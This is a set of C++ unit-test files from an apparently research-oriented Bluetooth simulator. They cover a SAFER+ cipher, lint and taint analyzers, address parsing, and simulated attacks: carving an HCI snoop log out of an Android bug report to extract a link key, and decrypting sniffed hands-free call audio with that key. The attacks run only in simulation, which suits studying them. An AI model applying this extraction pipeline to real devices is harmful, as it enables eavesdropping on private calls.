  SaferPlus::Block input{};
  input.fill(0x33);
  EXPECT_NE(cipher.ar(input), cipher.ar_prime(input));
}

TEST(SaferPlus, KeyAvalanche) {
  SaferPlus::Key k1 = key_of(0x00);
  SaferPlus::Key k2 = k1;
  k2[0] ^= 0x01;
  SaferPlus::Block input{};
  const auto out1 = SaferPlus(k1).ar(input);
  const auto out2 = SaferPlus(k2).ar(input);
  int differing_bits = 0;
  for (std::size_t i = 0; i < 16; ++i) differing_bits += __builtin_popcount(out1[i] ^ out2[i]);
  EXPECT_GT(differing_bits, 30);
}

TEST(SaferPlus, PlaintextAvalanche) {
  const SaferPlus cipher(key_of(0xA5));
  SaferPlus::Block p1{};
  SaferPlus::Block p2{};
  p2[15] ^= 0x01;
  const auto out1 = cipher.ar(p1);
  const auto out2 = cipher.ar(p2);
  int differing_bits = 0;
  for (std::size_t i = 0; i < 16; ++i) differing_bits += __builtin_popcount(out1[i] ^ out2[i]);
  EXPECT_GT(differing_bits, 30);
}

TEST(SaferPlus, OutputLooksBalanced) {
  // Encrypt a counter sequence; output bytes should span a wide range.
  const SaferPlus cipher(key_of(0x42));
  std::array<int, 256> histogram{};
  for (std::uint8_t i = 0; i < 200; ++i) {
    SaferPlus::Block input{};
    input[0] = i;
    const auto out = cipher.ar(input);
    for (auto b : out) histogram[b]++;
  }
  int nonzero = 0;
  for (int h : histogram)
    if (h > 0) ++nonzero;
  EXPECT_GT(nonzero, 200);  // 3200 samples over 256 buckets
}

TEST(SaferPlus, ArIsInjectiveOnSample) {
  // A block cipher must be a permutation; collisions on a sample would
  // indicate a broken round structure.
  const SaferPlus cipher(key_of(0x17));
  std::set<std::string> outputs;
  for (int i = 0; i < 512; ++i) {
    SaferPlus::Block input{};
    input[0] = static_cast<std::uint8_t>(i);
    input[1] = static_cast<std::uint8_t>(i >> 8);
    outputs.insert(hex(cipher.ar(input)));
  }
  EXPECT_EQ(outputs.size(), 512u);
}

// Different keys must induce different permutations (sweep over byte fills).
class SaferKeySweep : public ::testing::TestWithParam<int> {};

TEST_P(SaferKeySweep, DistinctKeysDistinctCiphertexts) {
  SaferPlus::Block input{};
  input.fill(0x99);
  const auto base = SaferPlus(key_of(0x00)).ar(input);
  const auto out = SaferPlus(key_of(static_cast<std::uint8_t>(GetParam()))).ar(input);
  EXPECT_NE(out, base);
}

INSTANTIATE_TEST_SUITE_P(KeyFills, SaferKeySweep, ::testing::Values(1, 2, 3, 7, 15, 16, 127, 255));

}  // namespace
}  // namespace blap::crypto
