// test_taint.cpp — blap-taint's own test suite.
//
// Mirrors test_lint's fixture harness: each pass has known-bad fixtures in
// tests/taint_fixtures/ whose offending lines carry trailing `// EXPECT-S2`
// / `// EXPECT-D6` markers, and the tests assert the analyzer fires on
// exactly the marked lines. Fixtures also pin the declassified-site and
// proven-lifetime-site counters, so the whitelist and proof machinery are
// covered, not just detection. A dedicated test runs blap-lint's S1 over
// the renamed-buffer fixture to prove that the flow S2 exists for is one
// the token scan cannot see. The final tests hold the real tree to zero
// findings and diff its declassification whitelist against the pinned
// tests/taint_expected_sites.txt.
#include "taint.hpp"

#include <gtest/gtest.h>

#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <utility>
#include <vector>

#include "lint.hpp"

namespace {

using blap::taint::Finding;
using blap::taint::Report;

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in.good()) << "cannot read " << path;
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

std::string fixture_path(const std::string& name) {
  return std::string(BLAP_TAINT_FIXTURE_DIR) + "/" + name;
}

/// (line, rule-id) pairs expected from `// EXPECT-S2`-style markers.
std::set<std::pair<int, std::string>> expected_findings(const std::string& content) {
  std::set<std::pair<int, std::string>> expected;
  std::istringstream in(content);
  std::string line_text;
  int line = 0;
  while (std::getline(in, line_text)) {
    ++line;
    const std::size_t at = line_text.find("EXPECT-");
    if (at == std::string::npos) continue;
    expected.emplace(line, line_text.substr(at + 7, 2));
  }
  return expected;
}

std::set<std::pair<int, std::string>> actual_findings(const std::vector<Finding>& findings) {
  std::set<std::pair<int, std::string>> actual;
  for (const Finding& f : findings) actual.emplace(f.line, blap::taint::rule_id(f.rule));
  return actual;
}

Report analyze_fixture(const std::string& name) {
  const std::string content = read_file(fixture_path(name));
  EXPECT_FALSE(content.empty());
  // The full path keeps tests/ in it, so record-builder context applies —
  // same as when the CLI walks the real tree.
  return blap::taint::analyze_sources({{fixture_path(name), content}});
}

/// Analyze a fixture and compare against its EXPECT markers plus the
/// expected declassified-site and proven-lifetime-site counts.
void check_fixture(const std::string& name, std::size_t declassified, int proven) {
  const std::string content = read_file(fixture_path(name));
  ASSERT_FALSE(content.empty());
  const Report report = analyze_fixture(name);
  EXPECT_EQ(expected_findings(content), actual_findings(report.findings)) << [&] {
    std::string got = "findings:\n";
    for (const Finding& f : report.findings) got += "  " + blap::taint::to_string(f) + "\n";
    return got;
  }();
  EXPECT_EQ(declassified, report.declassified.size());
  EXPECT_EQ(proven, report.proven_lifetime_sites);
}

TEST(TaintFixtures, S2RenamedBufferReachesLog) {
  check_fixture("s2_renamed_buffer.cpp", 0, 0);
}
TEST(TaintFixtures, S2InterproceduralArgAndReturnFlow) {
  check_fixture("s2_interproc.cpp", 1, 0);
}
TEST(TaintFixtures, S2SnapshotSerializerRecordBuilderSinks) {
  check_fixture("s2_sinks.cpp", 1, 0);
}
TEST(TaintFixtures, D6RawCaptureFlaggedHandleProvenWaiverHonored) {
  check_fixture("d6_lifetime.cpp", 0, 1);
}
TEST(TaintFixtures, TokenizerRawStringLiterals) {
  check_fixture("t1_raw_string.cpp", 0, 0);
}
TEST(TaintFixtures, TokenizerAttributes) {
  check_fixture("t2_attributes.cpp", 0, 0);
}
TEST(TaintFixtures, TokenizerNestedLambdas) {
  check_fixture("t3_nested_lambda.cpp", 0, 1);
}
TEST(TaintFixtures, TokenizerMacroSpanningStatements) {
  check_fixture("t4_macro_span.cpp", 1, 0);
}

// The tentpole claim: the renamed-buffer flow is invisible to S1's token
// scan (no identifier naming key material appears in the log macro) but S2
// follows the dataflow. Run both analyzers over the same bytes.
TEST(Taint, S2CatchesRenamedFlowThatS1Misses) {
  const std::string content = read_file(fixture_path("s2_renamed_buffer.cpp"));
  ASSERT_FALSE(content.empty());

  blap::lint::Options options;
  options.all_rules_everywhere = true;
  const auto lint_findings =
      blap::lint::lint_file("s2_renamed_buffer.cpp", content, options);
  for (const auto& f : lint_findings)
    EXPECT_NE("S1", std::string(blap::lint::rule_id(f.rule))) << f.format();

  const Report report = analyze_fixture("s2_renamed_buffer.cpp");
  ASSERT_EQ(1u, report.findings.size());
  EXPECT_EQ(blap::taint::Rule::kS2SecretFlow, report.findings[0].rule);
}

TEST(Taint, DeclassifiedSiteRecordsJustificationAndKind) {
  const Report report = analyze_fixture("s2_interproc.cpp");
  ASSERT_EQ(1u, report.declassified.size());
  const auto& site = report.declassified[0];
  EXPECT_EQ("emit_size", site.function);
  EXPECT_EQ("obs", site.kind);
  EXPECT_NE(std::string::npos, site.why.find("intentional observation point"));
}

TEST(Taint, ReportJsonCarriesFindingsAndSites) {
  const Report report = analyze_fixture("s2_sinks.cpp");
  const std::string json = blap::taint::report_json(report);
  EXPECT_NE(std::string::npos, json.find("\"findings\""));
  EXPECT_NE(std::string::npos, json.find("\"declassified_sites\""));
  EXPECT_NE(std::string::npos, json.find("\"proven_lifetime_sites\""));
  EXPECT_NE(std::string::npos, json.find("save_key_section"));
}

TEST(Taint, SiteLinesAreStableAndPrefixStripped) {
  const Report report = analyze_fixture("s2_sinks.cpp");
  const auto lines = blap::taint::site_lines(report, BLAP_TAINT_FIXTURE_DIR);
  ASSERT_EQ(1u, lines.size());
  EXPECT_EQ("s2_sinks.cpp:save_key_section:snapshot", lines[0]);
}

// The real tree must be clean: every intentional key-material observation
// carries a declassification marker, and nothing else reaches a sink. The
// fixtures above are the only place S2/D6 are allowed to fire.
TEST(TaintTree, RepoTreeHasNoFindings) {
  const auto files = blap::taint::tree_files(BLAP_SOURCE_DIR);
  ASSERT_FALSE(files.empty());
  const Report report = blap::taint::analyze_files(files);
  EXPECT_TRUE(report.findings.empty()) << [&] {
    std::string got = "findings:\n";
    for (const Finding& f : report.findings) got += "  " + blap::taint::to_string(f) + "\n";
    return got;
  }();
  EXPECT_GT(report.functions_analyzed, 1000);
  EXPECT_GT(report.files_analyzed, 150);
}

// The declassification whitelist is pinned: adding a key-material sink —
// even a marked one — must show up in review as a diff to
// tests/taint_expected_sites.txt, mirroring what CI enforces against
// taint-sites.txt.
TEST(TaintTree, DeclassifiedSitesMatchPinnedWhitelist) {
  const auto files = blap::taint::tree_files(BLAP_SOURCE_DIR);
  const Report report = blap::taint::analyze_files(files);

  std::vector<std::string> expected;
  std::istringstream in(read_file(std::string(BLAP_SOURCE_DIR) + "/tests/taint_expected_sites.txt"));
  std::string line;
  while (std::getline(in, line))
    if (!line.empty()) expected.push_back(line);

  EXPECT_EQ(expected, blap::taint::site_lines(report, BLAP_SOURCE_DIR));
}

// D6 superseded D3's suppression story: scheduler callbacks in the live
// tree hold generation-checked handles and re-validate them, which the
// analyzer proves rather than waives.
TEST(TaintTree, SchedulerCallbacksProveHandleRevalidation) {
  const auto files = blap::taint::tree_files(BLAP_SOURCE_DIR);
  const Report report = blap::taint::analyze_files(files);
  EXPECT_GE(report.proven_lifetime_sites, 4);
}

}  // namespace
