// Unit tests for BD_ADDR and Class of Device types.
#include <gtest/gtest.h>

#include "common/bdaddr.hpp"

namespace blap {
namespace {

TEST(BdAddr, ParsesColonSeparated) {
  auto addr = BdAddr::parse("48:90:ab:cd:ef:12");
  ASSERT_TRUE(addr.has_value());
  EXPECT_EQ(addr->to_string(), "48:90:ab:cd:ef:12");
}

TEST(BdAddr, ParsesDashesAndUppercase) {
  auto addr = BdAddr::parse("AA-BB-CC-DD-EE-FF");
  ASSERT_TRUE(addr.has_value());
  EXPECT_EQ(addr->to_string(), "aa:bb:cc:dd:ee:ff");
}

TEST(BdAddr, RejectsMalformed) {
  EXPECT_FALSE(BdAddr::parse("").has_value());
  EXPECT_FALSE(BdAddr::parse("48:90:ab:cd:ef").has_value());
  EXPECT_FALSE(BdAddr::parse("48:90:ab:cd:ef:12:34").has_value());
  EXPECT_FALSE(BdAddr::parse("zz:90:ab:cd:ef:12").has_value());
  EXPECT_FALSE(BdAddr::parse("4:890:ab:cd:ef:12").has_value());
}

TEST(BdAddr, LapUapNapDecomposition) {
  // Fig. 11 of the paper decodes BD_ADDR 00:1b:7d:da:71:0a into
  // NAP=0x001b, UAP=0x7d, LAP=0xda710a.
  auto addr = BdAddr::parse("00:1b:7d:da:71:0a");
  ASSERT_TRUE(addr.has_value());
  EXPECT_EQ(addr->nap(), 0x001b);
  EXPECT_EQ(addr->uap(), 0x7d);
  EXPECT_EQ(addr->lap(), 0xda710au);
}

TEST(BdAddr, WireFormatIsLittleEndian) {
  auto addr = BdAddr::parse("00:1b:7d:da:71:0a");
  ASSERT_TRUE(addr.has_value());
  ByteWriter w;
  addr->to_wire(w);
  // Fig. 11: on the wire the address appears as "0a 71 da 7d 1a 00"-style
  // reversed order (LAP low byte first).
  EXPECT_EQ(hex(w.data()), "0a71da7d1b00");
}

TEST(BdAddr, WireRoundTrip) {
  auto addr = BdAddr::parse("12:34:56:78:9a:bc");
  ASSERT_TRUE(addr.has_value());
  ByteWriter w;
  addr->to_wire(w);
  ByteReader r(w.data());
  auto back = BdAddr::from_wire(r);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, *addr);
}

TEST(BdAddr, FromWireUnderflow) {
  const Bytes short_buf = {1, 2, 3};
  ByteReader r(short_buf);
  EXPECT_FALSE(BdAddr::from_wire(r).has_value());
}

TEST(BdAddr, ZeroDetection) {
  EXPECT_TRUE(BdAddr{}.is_zero());
  EXPECT_FALSE(BdAddr::parse("00:00:00:00:00:01")->is_zero());
}

TEST(BdAddr, OrderingAndHash) {
  auto a = *BdAddr::parse("00:00:00:00:00:01");
  auto b = *BdAddr::parse("00:00:00:00:00:02");
  EXPECT_LT(a, b);
  EXPECT_NE(std::hash<BdAddr>{}(a), std::hash<BdAddr>{}(b));
}

TEST(ClassOfDevice, PaperConstants) {
  // The paper's Fig. 8 swaps COD 0x5A020C (phone) for 0x3C0404 (hands-free).
  const ClassOfDevice phone(ClassOfDevice::kMobilePhone);
  const ClassOfDevice handsfree(ClassOfDevice::kHandsFree);
  EXPECT_EQ(phone.major_class(), 0x02);  // Phone
  EXPECT_EQ(phone.describe(), "Phone");
  EXPECT_EQ(handsfree.major_class(), 0x04);  // Audio/Video
  EXPECT_EQ(handsfree.describe(), "Audio/Video");
}

TEST(ClassOfDevice, WireRoundTrip) {
  const ClassOfDevice cod(0x3C0404);
  ByteWriter w;
  cod.to_wire(w);
  EXPECT_EQ(hex(w.data()), "04043c");  // little-endian 3 bytes
  ByteReader r(w.data());
  auto back = ClassOfDevice::from_wire(r);
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, cod);
}

TEST(ClassOfDevice, MasksTo24Bits) {
  EXPECT_EQ(ClassOfDevice(0xFF123456).raw(), 0x123456u);
}

}  // namespace
}  // namespace blap
