// Tests for base64 and the Android bug-report exfiltration channel (§IV-A).
#include <gtest/gtest.h>

#include "common/base64.hpp"
#include "core/bug_report.hpp"
#include "core/snoop_extractor.hpp"

namespace blap::core {
namespace {

Bytes ascii(const std::string& s) { return Bytes(s.begin(), s.end()); }

TEST(Base64, Rfc4648Vectors) {
  EXPECT_EQ(base64_encode(ascii("")), "");
  EXPECT_EQ(base64_encode(ascii("f")), "Zg==");
  EXPECT_EQ(base64_encode(ascii("fo")), "Zm8=");
  EXPECT_EQ(base64_encode(ascii("foo")), "Zm9v");
  EXPECT_EQ(base64_encode(ascii("foob")), "Zm9vYg==");
  EXPECT_EQ(base64_encode(ascii("fooba")), "Zm9vYmE=");
  EXPECT_EQ(base64_encode(ascii("foobar")), "Zm9vYmFy");
}

TEST(Base64, DecodeVectors) {
  EXPECT_EQ(base64_decode("Zm9vYmFy"), ascii("foobar"));
  EXPECT_EQ(base64_decode("Zg=="), ascii("f"));
  EXPECT_EQ(base64_decode(""), Bytes{});
}

TEST(Base64, DecodeSkipsWhitespace) {
  EXPECT_EQ(base64_decode("Zm9v\nYmFy\r\n"), ascii("foobar"));
}

TEST(Base64, DecodeRejectsGarbage) {
  EXPECT_FALSE(base64_decode("Zm9v!").has_value());
  EXPECT_FALSE(base64_decode("Zg==Zg").has_value());  // data after padding
  EXPECT_FALSE(base64_decode("====").has_value());
  EXPECT_FALSE(base64_decode("QUJDR").has_value());   // cut mid-quantum
  EXPECT_FALSE(base64_decode("Zg").has_value());      // missing padding
  EXPECT_FALSE(base64_decode("Zg=").has_value());     // short padding
}

TEST(Base64, RoundTripBinary) {
  Rng rng(42);
  for (std::size_t n : {0u, 1u, 2u, 3u, 57u, 58u, 1000u}) {
    const Bytes data = rng.buffer(n);
    EXPECT_EQ(base64_decode(base64_encode(data)), data) << n;
    EXPECT_EQ(base64_decode(base64_encode(data, 76)), data) << n;
  }
}

TEST(BugReport, EmbedsAndRecoversSnoopLog) {
  // End to end: enable the snoop, bond two devices, generate the bug
  // report, carve the snoop out, extract the link key — the paper's §IV-A
  // pipeline with no filesystem access to the log directory.
  Simulation sim(110);
  DeviceSpec ms;
  ms.name = "velvet";
  ms.address = *BdAddr::parse("48:90:00:00:00:01");
  DeviceSpec cs;
  cs.name = "carkit";
  cs.address = *BdAddr::parse("00:1b:00:00:00:02");
  Device& m = sim.add_device(ms);
  Device& c = sim.add_device(cs);
  c.host().enable_snoop(true);
  bool done = false;
  c.host().pair(m.address(), [&](hci::Status s) { done = s == hci::Status::kSuccess; });
  for (int i = 0; i < 200 && !done; ++i) sim.run_for(100 * kMillisecond);
  ASSERT_TRUE(done);

  const std::string report = generate_bug_report(c, sim.now());
  // The report looks like a bug report...
  EXPECT_NE(report.find("dumpstate"), std::string::npos);
  EXPECT_NE(report.find("hci snoop log: enabled"), std::string::npos);
  // ...and never prints a key in the dumpsys section (keys leak only via
  // the snoop attachment).
  const auto bond_key = c.host().security().link_key_for(m.address());
  ASSERT_TRUE(bond_key.has_value());
  EXPECT_EQ(report.find(hex(*bond_key)), std::string::npos);

  const auto recovered = extract_snoop_from_bug_report(report);
  ASSERT_TRUE(recovered.has_value());
  EXPECT_EQ(recovered->size(), c.host().snoop().size());
  const auto key = extract_link_key_for(*recovered, m.address());
  ASSERT_TRUE(key.has_value());
  EXPECT_EQ(key->key, *bond_key);
}

TEST(BugReport, NoSnoopSectionWhenDisabled) {
  Simulation sim(111);
  DeviceSpec ds;
  ds.name = "phone";
  ds.address = *BdAddr::parse("48:90:00:00:00:01");
  Device& d = sim.add_device(ds);
  const std::string report = generate_bug_report(d, sim.now());
  EXPECT_NE(report.find("hci snoop log: disabled"), std::string::npos);
  EXPECT_FALSE(extract_snoop_from_bug_report(report).has_value());
}

TEST(BugReport, ExtractorRejectsDamagedAttachment) {
  EXPECT_FALSE(extract_snoop_from_bug_report("no markers here").has_value());
  EXPECT_FALSE(extract_snoop_from_bug_report(
                   "--- BEGIN:BTSNOOP (base64) ---\n!!!not base64!!!\n--- END:BTSNOOP ---")
                   .has_value());
  EXPECT_FALSE(extract_snoop_from_bug_report("--- BEGIN:BTSNOOP (base64) ---\nZm9v\n")
                   .has_value());  // missing end marker
}

}  // namespace
}  // namespace blap::core
