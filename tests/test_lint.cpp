// test_lint.cpp — blap-lint's own test suite.
//
// Each rule has a known-bad fixture in tests/lint_fixtures/. Offending lines
// carry a trailing `// EXPECT-<rule>` marker; the tests assert the analyzer
// fires on exactly the marked lines — no more, no less — which covers both
// detection and the suppression comments the fixtures also exercise. A final
// test holds the real tree to zero findings, making the fixtures the only
// place a rule is allowed to fire.
#include "lint.hpp"

#include <gtest/gtest.h>

#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <utility>

namespace {

using blap::lint::Finding;
using blap::lint::Options;
using blap::lint::Rule;

std::string read_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in.good()) << "cannot read " << path;
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

std::string fixture_path(const std::string& name) {
  return std::string(BLAP_LINT_FIXTURE_DIR) + "/" + name;
}

/// (line, rule-id) pairs expected from `// EXPECT-D1`-style markers.
std::set<std::pair<int, std::string>> expected_findings(const std::string& content) {
  std::set<std::pair<int, std::string>> expected;
  std::istringstream in(content);
  std::string line_text;
  int line = 0;
  while (std::getline(in, line_text)) {
    ++line;
    const std::size_t at = line_text.find("EXPECT-");
    if (at == std::string::npos) continue;
    expected.emplace(line, line_text.substr(at + 7, 2));
  }
  return expected;
}

std::set<std::pair<int, std::string>> actual_findings(const std::vector<Finding>& findings) {
  std::set<std::pair<int, std::string>> actual;
  for (const Finding& f : findings) actual.emplace(f.line, blap::lint::rule_id(f.rule));
  return actual;
}

/// Lint a fixture and compare against its EXPECT markers.
void check_fixture(const std::string& name) {
  const std::string content = read_file(fixture_path(name));
  ASSERT_FALSE(content.empty());
  Options options;
  options.all_rules_everywhere = true;
  const auto findings = blap::lint::lint_file(name, content, options);
  EXPECT_EQ(expected_findings(content), actual_findings(findings)) << [&] {
    std::string got = "findings:\n";
    for (const Finding& f : findings) got += "  " + f.format() + "\n";
    return got;
  }();
}

TEST(LintFixtures, D1WallclockFiresAndHonorsSuppression) { check_fixture("d1_wallclock.cpp"); }
TEST(LintFixtures, D2UnorderedFiresAndHonorsSuppression) { check_fixture("d2_unordered.cpp"); }
TEST(LintFixtures, D3CaptureFiresAndHonorsSuppression) { check_fixture("d3_capture.cpp"); }
TEST(LintFixtures, D4ObsGuardFiresAndHonorsSuppression) { check_fixture("d4_obs.cpp"); }
TEST(LintFixtures, D5RadioScanFiresAndHonorsSuppression) { check_fixture("d5_radio.cpp"); }
TEST(LintFixtures, S1SpecFiresAndHonorsSuppression) { check_fixture("s1_spec.cpp"); }
TEST(LintFixtures, D7FailpointFiresAndHonorsSuppression) { check_fixture("d7_failpoint.cpp"); }

TEST(Lint, StringLiteralsAndCommentsNeverTrip) {
  const char* src =
      "const char* s = \"time() and std::rand() and steady_clock\";\n"
      "// system_clock in prose\n"
      "/* for (auto& kv : some_unordered_map) */\n";
  Options options;
  options.all_rules_everywhere = true;
  EXPECT_TRUE(blap::lint::lint_file("snippet.cpp", src, options).empty());
}

TEST(Lint, DigitSeparatorsAreNotCharLiterals) {
  // A naive lexer treats the ' in 1'000'000 as a char-literal opener and
  // swallows the rest of the file — including real violations.
  const char* src =
      "constexpr unsigned long long kSecond = 1'000'000;\n"
      "long t = time(nullptr);\n";
  Options options;
  options.all_rules_everywhere = true;
  const auto findings = blap::lint::lint_file("snippet.cpp", src, options);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].rule, Rule::kD1Wallclock);
  EXPECT_EQ(findings[0].line, 2);
}

TEST(Lint, FindingFormatIsStable) {
  Finding f{Rule::kD2Ordered, "src/foo.cpp", 42, "message"};
  EXPECT_EQ(f.format(), "src/foo.cpp:42: [D2] message");
}

TEST(Lint, D1CoversAnalyticsAndSnoopdTrees) {
  // The fleet analytics engine and its CLI promise byte-identical reports;
  // a wall-clock read anywhere in either tree must trip the default gate.
  const char* src = "long now() { return time(nullptr); }\n";
  for (const char* path : {"src/analytics/fleet.cpp", "tools/snoopd/main.cpp"}) {
    const auto findings = blap::lint::lint_file(path, src, Options{});
    ASSERT_EQ(findings.size(), 1u) << path;
    EXPECT_EQ(findings[0].rule, Rule::kD1Wallclock) << path;
  }
}

TEST(Lint, D2CoversAnalyticsAndSnoopdTrees) {
  const char* src =
      "std::unordered_map<int, int> counts_;\n"
      "int sum() { int n = 0; for (auto& [k, v] : counts_) n += v; return n; }\n";
  for (const char* path : {"src/analytics/detectors.cpp", "tools/snoopd/main.cpp"}) {
    const auto findings = blap::lint::lint_file(path, src, Options{});
    ASSERT_EQ(findings.size(), 1u) << path;
    EXPECT_EQ(findings[0].rule, Rule::kD2Ordered) << path;
  }
}

TEST(Lint, D7ScopedToSrcTree) {
  // The chaos tests probe the macro as a bare expression on purpose
  // (recorder assertions, replayability sweeps); only src/ is held to the
  // failpoints-are-branches rule.
  const char* src = "void f() { (void)BLAP_FAILPOINT(\"a.b.c\"); }\n";
  EXPECT_TRUE(blap::lint::lint_file("tests/test_chaos.cpp", src, Options{}).empty());
  const auto findings = blap::lint::lint_file("src/radio/radio_medium.cpp", src, Options{});
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].rule, Rule::kD7Failpoint);
}

TEST(Lint, RuleMetadataIsConsistent) {
  for (Rule rule : {Rule::kD1Wallclock, Rule::kD2Ordered, Rule::kD3Handle, Rule::kD4ObsGuard,
                    Rule::kD5RadioScan, Rule::kS1Spec, Rule::kD7Failpoint}) {
    EXPECT_STRNE(blap::lint::rule_id(rule), "?");
    EXPECT_STRNE(blap::lint::rule_tag(rule), "?");
    EXPECT_STRNE(blap::lint::rule_summary(rule), "?");
  }
}

TEST(Lint, HeaderDeclaredUnorderedMemberCaughtViaKnownNames) {
  // Simulates lint_tree's pre-pass: the member is declared unordered in a
  // header, iterated in a .cpp that never mentions the type.
  Options options;
  options.all_rules_everywhere = true;
  options.known_unordered.push_back("acls_");
  const char* src = "int f() { int n = 0; for (auto& [k, v] : acls_) ++n; return n; }\n";
  const auto findings = blap::lint::lint_file("host.cpp", src, options);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].rule, Rule::kD2Ordered);
}

// The teeth of the gate: the shipped tree carries zero findings, so any new
// violation fails CI rather than silently eroding the determinism contract.
TEST(Lint, RepositoryTreeIsClean) {
  const auto findings = blap::lint::lint_tree(BLAP_SOURCE_DIR);
  std::string got;
  for (const Finding& f : findings) got += f.format() + "\n";
  EXPECT_TRUE(findings.empty()) << got;
}

}  // namespace
