// Tests for the HFP profile and the paper's "phone call conversations" leak:
// a sniffed encrypted call decrypts retroactively once the link key leaks.
#include <gtest/gtest.h>

#include "core/air_analysis.hpp"
#include "core/device.hpp"
#include "core/snoop_extractor.hpp"

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  return s;
}

struct CallScenario {
  std::unique_ptr<Simulation> sim;
  Device* phone = nullptr;
  Device* carkit = nullptr;

  explicit CallScenario(std::uint64_t seed) {
    sim = std::make_unique<Simulation>(seed);
    phone = &sim->add_device(spec("phone", "48:90:00:00:00:01"));
    carkit = &sim->add_device(spec("carkit", "00:1b:00:00:00:02"));
  }

  bool open_channel() {
    bool connected = false;
    bool done = false;
    carkit->host().connect_hfp(phone->address(), [&](bool ok) {
      connected = ok;
      done = true;
    });
    for (int i = 0; i < 400 && !done; ++i) sim->run_for(100 * kMillisecond);
    return connected;
  }
};

TEST(Hfp, ChannelRequiresAndTriggersAuthentication) {
  CallScenario s(100);
  EXPECT_TRUE(s.open_channel());
  EXPECT_TRUE(s.carkit->host().security().is_bonded(s.phone->address()));
  EXPECT_TRUE(s.carkit->host().hfp_channel_open(s.phone->address()));
  EXPECT_TRUE(s.phone->host().hfp_channel_open(s.carkit->address()));
}

TEST(Hfp, AnswerCallFlowsAudioBothWays) {
  CallScenario s(101);
  ASSERT_TRUE(s.open_channel());

  // Phone rings the car-kit; car-kit answers; both sides mark call active.
  s.phone->host().hfp_send_at(s.carkit->address(), "RING");
  s.sim->run_for(100 * kMillisecond);
  s.carkit->host().hfp_send_at(s.phone->address(), "ATA");
  s.sim->run_for(100 * kMillisecond);
  EXPECT_TRUE(s.phone->host().hfp().call_active());
  s.carkit->host().hfp().set_call_active(true);

  // Voice frames in both directions.
  const Bytes voice_up = {'h', 'e', 'l', 'l', 'o'};
  const Bytes voice_down = {'w', 'o', 'r', 'l', 'd'};
  s.carkit->host().hfp_send_audio(s.phone->address(), voice_up);
  s.phone->host().hfp_send_audio(s.carkit->address(), voice_down);
  s.sim->run_for(kSecond);

  ASSERT_EQ(s.phone->host().hfp().received_audio().size(), 1u);
  EXPECT_EQ(s.phone->host().hfp().received_audio()[0].samples, voice_up);
  ASSERT_EQ(s.carkit->host().hfp().received_audio().size(), 1u);
  EXPECT_EQ(s.carkit->host().hfp().received_audio()[0].samples, voice_down);
  // The control log captured the exchange.
  ASSERT_FALSE(s.phone->host().hfp().at_log().empty());
  EXPECT_EQ(s.phone->host().hfp().at_log()[0], "ATA");
}

TEST(Hfp, HangupStopsRecording) {
  CallScenario s(102);
  ASSERT_TRUE(s.open_channel());
  s.carkit->host().hfp_send_at(s.phone->address(), "ATA");
  s.sim->run_for(100 * kMillisecond);
  s.carkit->host().hfp_send_at(s.phone->address(), "AT+CHUP");
  s.sim->run_for(100 * kMillisecond);
  EXPECT_FALSE(s.phone->host().hfp().call_active());
  s.carkit->host().hfp_send_audio(s.phone->address(), Bytes{1, 2, 3});
  s.sim->run_for(kSecond);
  EXPECT_TRUE(s.phone->host().hfp().received_audio().empty());
}

TEST(Hfp, CallAudioIsEncryptedOnAirAndDecryptsWithStolenKey) {
  // The paper's full eavesdropping claim for calls (§IV): the sniffer only
  // ever sees ciphertext, but the extracted link key unlocks the recording.
  CallScenario s(103);
  AirSniffer sniffer(s.sim->medium());
  ASSERT_TRUE(s.open_channel());
  s.carkit->host().hfp_send_at(s.phone->address(), "ATA");
  s.sim->run_for(100 * kMillisecond);
  const Bytes voice = {'s', 'e', 'c', 'r', 'e', 't', 'c', 'a', 'l', 'l'};
  s.carkit->host().hfp_send_audio(s.phone->address(), voice);
  s.sim->run_for(kSecond);
  ASSERT_EQ(s.phone->host().hfp().received_audio().size(), 1u);

  // On the air: no frame carries the voice verbatim.
  bool plaintext_on_air = false;
  for (const auto& frame : sniffer.frames()) {
    const std::string text(frame.frame.begin(), frame.frame.end());
    if (text.find("secretcall") != std::string::npos) plaintext_on_air = true;
  }
  EXPECT_FALSE(plaintext_on_air);

  // With the link key (as the extraction attack obtains): full recovery.
  const auto key = s.carkit->host().security().link_key_for(s.phone->address());
  ASSERT_TRUE(key.has_value());
  const auto decrypted = decrypt_captured_traffic(sniffer.frames(), *key);
  ASSERT_TRUE(decrypted.has_value());
  bool recovered = false;
  for (const auto& payload : *decrypted) {
    const std::string text(payload.plaintext.begin(), payload.plaintext.end());
    if (text.find("secretcall") != std::string::npos) recovered = true;
  }
  EXPECT_TRUE(recovered);
}

TEST(Hfp, AudioBeforeChannelIsDropped) {
  CallScenario s(104);
  // No channel open: sends are no-ops, no crash.
  s.carkit->host().hfp_send_audio(s.phone->address(), Bytes{1});
  s.carkit->host().hfp_send_at(s.phone->address(), "ATA");
  s.sim->run_for(kSecond);
  EXPECT_TRUE(s.phone->host().hfp().received_audio().empty());
}

TEST(Hfp, ChannelClosesWithAcl) {
  CallScenario s(105);
  ASSERT_TRUE(s.open_channel());
  s.carkit->host().disconnect(s.phone->address());
  s.sim->run_for(kSecond);
  EXPECT_FALSE(s.carkit->host().hfp_channel_open(s.phone->address()));
  EXPECT_FALSE(s.phone->host().hfp_channel_open(s.carkit->address()));
}

}  // namespace
}  // namespace blap::core
