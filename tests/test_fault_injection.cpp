// Fault-injection layer: lossy/bursty/jammed channels, baseband ARQ,
// supervision teardown and host-side recovery. The overarching contracts:
//
//   * a default (disabled) FaultPlan leaves every output byte-identical to a
//     build that never heard of the fault layer;
//   * every timeout tears the stack down *cleanly* — explicit reason codes,
//     no dangling ops — and both stacks stay reusable afterwards.
#include <gtest/gtest.h>

#include "core/device.hpp"
#include "faults/fault_plan.hpp"

namespace blap::core {
namespace {

